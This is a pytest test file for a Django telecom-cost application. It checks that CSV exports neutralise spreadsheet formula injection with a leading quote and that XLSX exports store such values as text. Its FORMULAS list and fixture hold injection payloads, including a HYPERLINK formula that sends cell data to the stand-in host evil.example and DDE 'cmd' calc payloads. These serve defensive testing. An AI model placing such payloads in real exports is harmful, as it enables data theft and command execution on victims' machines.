"""csv cells a spreadsheet would run as formulas are neutralised (OWASP: a leading quote);
numbers stay numbers; xlsx writes text as text. The csv of CDRs goes out through COPY on
PostgreSQL and through Python on SQLite: both databases run these tests."""

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.storage import default_storage

from telcost.exports.models import ExportJob
from telcost.exports.services import export_generate
from telcost.exports.writers import csv_safe
from telcost.usage.models import CDR
from tests.factories import (
    CostCenterAssignmentFactory,
    CostCenterFactory,
    CustomerFactory,
    DeviceFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

OCT = dt.date(2026, 10, 1)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+",
]
HARMLESS = ["+31201234567", "-12", "-0.5", "31201234567", "plain = text", ""]


@pytest.fixture
def hostile():
    customer = CustomerFactory(name="Hostile BV")
    center = CostCenterFactory(customer=customer, code="=cmd|' /C calc'!A0", name="@SUM(1)")
    device = DeviceFactory(
        customer=customer, msisdn="31611111111", label='=HYPERLINK("http://evil.example")'
    )
    CostCenterAssignmentFactory(device=device, cost_center=center, valid_from=dt.date(2026, 1, 1))
    at = dt.datetime(2026, 10, 5, 8, tzinfo=dt.UTC)
    for number, destination in enumerate(FORMULAS + HARMLESS):
        CDR.objects.create(
            customer=customer,
            device=device,
            external_id=f"f{number}",
            destination=destination,
            started_at=at + dt.timedelta(minutes=number),
            record_type="voice",
            zone="national",
            duration_s=60,
            volume_kb=0,
            provider_cost=Decimal("-1.5000" if number == 0 else "0.1000"),
            cycle_start=OCT,
        )
    return customer


def generate(customer, kind: str, fmt: str, date=OCT) -> bytes:
    export = ExportJob.objects.create(
        customer=customer, requested_by=UserFactory(), cycle_start_date=date, kind=kind, format=fmt
    )
    with default_storage.open(export_generate(export=export)["file"]) as f:
        return f.read()


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


def test_the_rule():
    assert [csv_safe(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
    assert [csv_safe(v) for v in HARMLESS] == HARMLESS


def test_cdr_csv_neutralises_formulas_and_keeps_numbers_as_numbers(hostile):
    rows = csv_rows(generate(hostile, "cdrs", "csv"))[1:]
    assert [r[6] for r in rows] == ["'" + v for v in FORMULAS] + HARMLESS
    assert {r[8] for r in rows} == {"'=cmd|' /C calc'!A0"}
    assert (
        rows[0][3] == "-1.5000" and rows[1][3] == "0.1000"
    )  # a negative amount is a number, not text
    assert {r[1] for r in rows} == {"31611111111"}


def test_cost_center_csv_neutralises_labels_codes_and_names(hostile):
    [header, row] = csv_rows(generate(hostile, "cost_centers", "csv", date=dt.date(2026, 10, 5)))
    assert row == [
        "31611111111",
        '\'=HYPERLINK("http://evil.example")',
        "'=cmd|' /C calc'!A0",
        "'@SUM(1)",
        "2026-01-01",
    ]


def test_xlsx_writes_the_same_values_as_text_never_as_formulas(hostile):
    content = generate(hostile, "cdrs", "xlsx")
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    destinations = [sheet.cell(row=r, column=7) for r in range(2, 2 + len(FORMULAS))]
    # As they are: text in xlsx is never run. (A CR is stored as Excel's _x000D_, which Excel reads
    # back as a CR and openpyxl leaves as it is.)
    assert [c.value for c in destinations] == [v.replace("\r", "_x000D_") for v in FORMULAS]
    assert {c.data_type for c in destinations} == {"s"}
    assert (
        sheet.cell(row=2, column=4).value == pytest.approx(-1.5)
        and sheet.cell(row=2, column=4).data_type == "n"
    )
